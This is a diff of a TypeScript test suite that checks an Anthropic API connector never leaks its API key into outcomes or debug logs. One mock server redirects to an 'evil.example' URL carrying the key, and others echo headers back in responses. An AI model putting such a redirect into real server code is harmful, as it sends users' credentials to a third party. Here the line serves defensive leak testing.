@@ -1,76 +1,38 @@
-/** The API key appears nowhere but in the request header, whatever a server does with it. */
+/** The API key is sent in a request header and appears nowhere else, even if a server echoes it. */
 import { inspect } from "node:util";
 import type { Connection } from "@prismatic-io/spectral";
 import { describe, expect, test } from "vitest";
-import { noProgress } from "../src/claude/agent/agent";
-import { seal } from "../src/claude/agent/state";
-import { createClient } from "../src/client/client";
-import { apiKey, component, connectionTo, gatewayTo, Logs, run } from "./support/component";
+import { contextFor, type Step, steps } from "./support/allSteps";
+import { expectNone } from "./support/checks";
+import { apiKey, connectionTo, gatewayTo, Logs, run } from "./support/component";
+import { workingInputs } from "./support/inputs";
 import { eventStream, type Received, type Reply, startServer, textEvents } from "./support/server";
 
-/** A state that the connection opens, and that has nothing to wait for. */
-const stateFor = (connection: Connection): string => {
-  const request = { model: "claude-sonnet-5-5", max_tokens: 10 };
-  const progress = noProgress([{ role: "user", content: "Hello" }], []);
-  const state = { request, betas: [], flows: [], limits: {}, progress, withToken: [] };
-  try {
-    const { account } = createClient({ logger: new Logs().logger as never }, connection);
-    return seal(state, `${account}.instanceId`);
-  } catch {
-    return "no state for a connection that cannot be used";
-  }
+/** Inputs that make a step do more: look up the model, retry, send a body. */
+const extraInputs: Record<string, Record<string, unknown>> = {
+  chat: { temperature: "0.5", requestOptions: { maxRetries: "1" } },
+  rawRequest: { method: "POST", data: "{}", maxRetries: "1" },
+  listBatches: { fetchAll: true },
+  listFiles: { fetchAll: true },
+  listModels: { fetchAll: true },
 };
 
-const inputs: Record<string, Record<string, unknown>> = {
-  chat: { initialMessage: "Hello", temperature: "0.5", requestOptions: { maxRetries: "1" } },
-  extractData: {
-    text: "Hello",
-    fields: [{ name: "a" }],
-    requestOptions: { maxRetries: "0" },
-  },
-  classifyAndBranch: {
-    text: "Hello",
-    branches: [{ key: "a", value: "b" }],
-    requestOptions: { maxRetries: "0" },
-  },
-  runAgent: { task: "Hello", requestOptions: { maxRetries: "0" } },
-  resumeAgent: { state: stateFor, requestOptions: { maxRetries: "0" } },
-  countTokens: { message: "Hello", requestOptions: { maxRetries: "0" } },
-  createChatCompletion: {
-    messages: [{ role: "user", content: "Hello" }],
-    requestOptions: { maxRetries: "0" },
-  },
-  createBatch: { items: ["Hello"], requestOptions: { maxRetries: "0" } },
-  getBatch: { batchId: "a", requestOptions: { maxRetries: "0" } },
-  getBatchResults: { batchId: "a", requestOptions: { maxRetries: "0" } },
-  listBatches: { fetchAll: true, requestOptions: { maxRetries: "0" } },
-  cancelBatch: { batchId: "a", requestOptions: { maxRetries: "0" } },
-  deleteBatch: { batchId: "a", requestOptions: { maxRetries: "0" } },
-  uploadFile: { file: "Hello", fileName: "a.txt", requestOptions: { maxRetries: "0" } },
-  getFile: { fileId: "a", requestOptions: { maxRetries: "0" } },
-  listFiles: { fetchAll: true, requestOptions: { maxRetries: "0" } },
-  downloadFile: { fileId: "a", requestOptions: { maxRetries: "0" } },
-  deleteFile: { fileId: "a", requestOptions: { maxRetries: "0" } },
-  getModel: { requestOptions: { maxRetries: "0" } },
-  listModels: { fetchAll: true, requestOptions: { maxRetries: "0" } },
-  rawRequest: { method: "POST", data: "{}", maxRetries: "1" },
-};
+const inputsFor = ({ key, inputs }: Step, connection: Connection) => ({
+  ...workingInputs(key, inputs, connection),
+  ...(inputs.some(({ key }) => key === "requestOptions")
+    ? { requestOptions: { maxRetries: "0" } }
+    : {}),
+  ...extraInputs[key],
+});
 
 const json = { "content-type": "application/json", "retry-after-ms": "1" };
 
-/** The inputs of an action, those that depend on the connection made for it. */
-const inputsFor = (key: string, connection: Connection) =>
-  Object.fromEntries(
-    Object.entries(inputs[key] ?? {}).map(([name, value]) => [
-      name,
-      typeof value === "function" ? value(connection) : value,
-    ]),
-  );
-
-/** What a server may do with the headers it gets. All of them are echoed: a gateway's debug mode does that. */
+/** Servers by what they do with the request headers. Echoing them is what a gateway's debug mode does. */
 const servers: Record<string, (request: Received) => Reply> = {
-  "answers well": () => ({ body: { data: [], has_more: false, content: [], input_tokens: 1 } }),
-  "echoes the headers in its answer": ({ headers }) => ({
+  "sends a valid response": () => ({
+    body: { data: [], has_more: false, content: [], input_tokens: 1 },
+  }),
+  "echoes the headers in the response": ({ headers }) => ({
     headers: json,
     body: {
       content: [{ type: "text", text: JSON.stringify(headers) }],
@@ -96,21 +58,21 @@ const servers: Record<string, (request: Received) => Reply> = {
     status: 502,
     body: `<html>${JSON.stringify(headers)}`,
   }),
-  "echoes the headers in an answer that is no JSON": ({ headers }) => ({
+  "echoes the headers in a response that is not JSON": ({ headers }) => ({
     body: `Got ${headers["x-api-key"]}`,
   }),
-  "puts the key into a redirect": ({ headers }) => ({
+  "puts the API key into a redirect": ({ headers }) => ({
     status: 302,
     headers: { location: `https://evil.example/?key=${headers["x-api-key"]}` },
   }),
-  "puts the key into headers": ({ headers }) => ({
+  "puts the API key into response headers": ({ headers }) => ({
     status: 400,
     headers: { "request-id": String(headers["x-api-key"]), "x-echo": String(headers["x-api-key"]) },
   }),
-  "breaks off": () => (_, response) => response.destroy(),
+  "closes the connection": () => (_, response) => response.destroy(),
 };
 
-/** Everything that can be seen of a value: own properties, hidden ones too, stacks and JSON. */
+/** Everything that a value shows: its properties, hidden ones included, its stack and its JSON. */
 const everything = (value: unknown): string =>
   [
     inspect(value, { depth: 20, showHidden: true, getters: true, maxStringLength: null }),
@@ -121,85 +83,93 @@ const everything = (value: unknown): string =>
 const extraSecret = "pk-secret-0123456789";
 
 const connections = {
-  anthropic: connectionTo,
-  gateway: (url: string) =>
-    gatewayTo(url, {
-      authentication: "x-api-key",
-      headers: `x-portkey-api-key: ${extraSecret}\nx-portkey-provider: anthropic`,
-    }),
+  anthropic: { connect: connectionTo, secrets: [apiKey] },
+  gateway: {
+    connect: (url: string) =>
+      gatewayTo(url, {
+        authentication: "x-api-key",
+        headers: `x-portkey-api-key: ${extraSecret}\nx-portkey-provider: anthropic`,
+      }),
+    secrets: [apiKey, extraSecret],
+  },
 };
 
-describe.each(
-  Object.keys(inputs).flatMap((key) =>
-    Object.entries(connections).map((via) => [key, ...via] as const),
-  ),
-)("%s by the connection %s", (key, via, connect) => {
-  const secrets = via === "gateway" ? [apiKey, extraSecret] : [apiKey];
+/** Runs a step with debug logging, and lists each secret in the outcome or the log. */
+const leaksOf = async (
+  step: Step,
+  url: string,
+  inputs: Record<string, unknown>,
+  secrets: readonly string[],
+) => {
+  const logs = new Logs();
+  // Without Max Retries, a step has no time left to retry.
+  const leftMs = "requestOptions" in inputs || "maxRetries" in inputs ? 60_000 : 350;
+  const context = { ...contextFor({ url }, leftMs), logger: logs.logger, globalDebug: true };
+  const outcome = await step.perform(inputs, context as object).catch((error: unknown) => error);
+  const places = { outcome: everything(outcome), log: logs.lines.join("\n") };
+  const leaks = Object.entries(places).flatMap(([place, text]) =>
+    secrets.filter((secret) => text.includes(secret)).map((secret) => `${secret} in the ${place}`),
+  );
+  return { leaks, logs, outcome };
+};
 
-  test.each(Object.entries(servers))("to a server that %s", async (_, reply) => {
-    const server = await startServer((request, response) => {
-      const answer = reply(request);
-      if (typeof answer === "function") return answer(request, response);
-      response.writeHead(answer.status ?? 200, { ...json, ...answer.headers });
-      response.end(
-        typeof answer.body === "string" ? answer.body : JSON.stringify(answer.body ?? {}),
-      );
-    });
-    const logs = new Logs();
-    const connection = connect(server.url);
-    const outcome = await run(
-      key,
-      server,
-      { ...inputsFor(key, connection), connection },
-      { logger: logs.logger, globalDebug: true },
-    ).catch((error: unknown) => error);
-    expect(server.requests[0]?.headers["x-api-key"]).toBe(apiKey);
-    expect(logs.lines.length).toBeGreaterThan(0);
-    for (const secret of secrets) {
-      expect(everything(outcome)).not.toContain(secret);
-      expect(logs.lines.join("\n")).not.toContain(secret);
-    }
+const startEcho = (reply: (request: Received) => Reply) =>
+  startServer((request, response) => {
+    const sent = reply(request);
+    if (typeof sent === "function") return sent(request, response);
+    response.writeHead(sent.status ?? 200, { ...json, ...sent.headers });
+    response.end(typeof sent.body === "string" ? sent.body : JSON.stringify(sent.body ?? {}));
   });
 
-  test("to nobody", async () => {
-    const logs = new Logs();
-    const connection = connect("http://127.0.0.1:1");
-    const outcome = await run(
-      key,
-      { url: "" },
-      { ...inputsFor(key, connection), connection },
-      { logger: logs.logger, globalDebug: true },
-    ).catch((error: unknown) => error);
-    expect(outcome).toBeInstanceOf(Error);
-    for (const secret of secrets) {
-      expect(everything(outcome) + logs.lines.join("\n")).not.toContain(secret);
-    }
-  });
+const unreachable = "http://127.0.0.1:1";
 
-  test("with a connection that cannot be used", async () => {
-    const connection = connect("not a url");
-    const outcome = await run(
-      key,
-      { url: "" },
-      { ...inputsFor(key, connection), connection },
-    ).catch((error: unknown) => error);
-    expect(outcome).toBeInstanceOf(Error);
-    for (const secret of secrets) expect(everything(outcome)).not.toContain(secret);
-  });
+const toApi = ({ path }: Received) => path.startsWith("/v1/");
+
+describe("no secret leaks", () => {
+  test.each(steps.filter(({ calls }) => calls).map((step) => [step.label, step] as const))(
+    "%s",
+    async (_, step) => {
+      const found: string[] = [];
+      for (const [via, { connect, secrets }] of Object.entries(connections)) {
+        const note = (condition: string, leaks: readonly string[]) =>
+          void found.push(...leaks.map((leak) => `${via} connection, ${condition}: ${leak}`));
+
+        for (const [behavior, reply] of Object.entries(servers)) {
+          const server = await startEcho(reply);
+          const inputs = inputsFor(step, connect(server.url));
+          const { leaks, logs } = await leaksOf(step, server.url, inputs, secrets);
+          note(`a server that ${behavior}`, leaks);
+          expect(server.requests.find(toApi)?.headers["x-api-key"], behavior).toBe(apiKey);
+          expect(logs.lines.length, behavior).toBeGreaterThan(0);
+        }
+
+        const inputs = inputsFor(step, connect(unreachable));
+        const unreached = await leaksOf(step, unreachable, inputs, secrets);
+        expect(unreached.outcome).toBeInstanceOf(Error);
+        note("no server", unreached.leaks);
+
+        const connection = connect("not a url");
+        const unusable = await leaksOf(step, unreachable, { ...inputs, connection }, secrets);
+        expect(unusable.outcome).toBeInstanceOf(Error);
+        note("an invalid Base URL", unusable.leaks);
+      }
+      expectNone(found);
+    },
+  );
 });
 
-const chunks = (key: string) => [key.slice(0, 9), key.slice(9)];
+describe("redaction of API keys", () => {
+  const hello = { initialMessage: "Hello", requestOptions: { maxRetries: "1" } };
 
-describe("a key in disguise", () => {
   const call = async (reply: Reply, action: string, input: object, fields: object = {}) => {
     const server = await startServer(reply);
     const connection = connectionTo(server.url, fields as Record<string, unknown>);
     return run(action, server, { ...input, connection }).catch((error: unknown) => error);
   };
 
-  test("split over two pieces of a stream", async () => {
+  test("a key split over two chunks of a stream", async () => {
     const [start, block, , ...rest] = textEvents("");
-    const deltas = chunks(apiKey).map((text) => ({
+    const deltas = [apiKey.slice(0, 9), apiKey.slice(9)].map((text) => ({
       type: "content_block_delta",
       index: 0,
       delta: { type: "text_delta", text },
@@ -210,13 +180,13 @@ describe("a key in disguise", () => {
     const result = (await call(
       { headers: { "content-type": "text/event-stream" }, body },
       "chat",
-      inputs.chat ?? {},
+      hello,
     )) as { text: string };
     expect(result.text).toBe("[redacted]");
     expect(everything(result)).not.toContain(apiKey);
   });
 
-  test("written with JSON's escapes, in an answer, a field name and an error", async () => {
+  test("a key with JSON escapes, in a response, a field name and an error", async () => {
     const escaped = apiKey.replaceAll("-", "\\u002d");
     const get = { method: "GET" };
     const body = `{"error": {"message": "${escaped}", "type": "${escaped}"}, "${escaped}": ["${escaped}"]}`;
@@ -229,7 +199,7 @@ describe("a key in disguise", () => {
     expect(everything(await call(echo, "rawRequest", get, slashed))).not.toContain(slashed.apiKey);
   });
 
-  test("in a file, which keeps its length", async () => {
+  test("a key in a binary response, which keeps its length", async () => {
     const file = Buffer.concat([Buffer.of(0, 255), Buffer.from(apiKey), Buffer.of(255)]);
     const result = (await call({ body: file }, "rawRequest", {
       method: "GET",
@@ -239,18 +209,14 @@ describe("a key in disguise", () => {
     expect([result.length, result[0], result.at(-1)]).toEqual([file.length, 0, 255]);
   });
 
-  test("too short to be told from words is left alone: it would garble answers", async () => {
+  test("a key as short as a word is kept, so that texts stay intact", async () => {
     const streamedText = {
       headers: { "content-type": "text/event-stream" },
       body: eventStream(textEvents("This is a test of text.")),
     };
-    const result = (await call(streamedText, "chat", inputs.chat ?? {}, { apiKey: "test" })) as {
+    const result = (await call(streamedText, "chat", hello, { apiKey: "test" })) as {
       text: string;
     };
     expect(result.text).toBe("This is a test of text.");
   });
-});
-
-test("every action is in this test", () => {
-  expect(Object.keys(inputs)).toEqual(Object.keys(component.actions));
 });
